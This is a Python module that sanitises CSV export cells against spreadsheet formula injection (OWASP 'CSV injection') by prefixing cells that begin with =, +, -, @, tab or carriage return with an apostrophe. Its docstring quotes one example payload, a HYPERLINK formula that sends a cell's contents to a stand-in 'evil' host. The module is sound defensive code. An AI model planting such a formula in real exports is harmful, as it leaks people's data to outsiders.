"""Every CSV export writes its cells through here, so no cell runs as a spreadsheet formula.

Excel, WPS and LibreOffice treat a cell starting with = + - @ (or a tab / carriage return before one)
as a formula: a member named `=HYPERLINK("http://evil/?"&A1,"点我")` would turn an operator's export
into a link that leaks the row. Such text gets a leading apostrophe (OWASP "CSV injection");
numbers, including negative amounts, stay numbers.
"""

from __future__ import annotations

import csv

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        try:
            float(value)
        except ValueError:
            return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, **kwargs) -> _SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""
    return _SafeWriter(csv.writer(file, **kwargs))
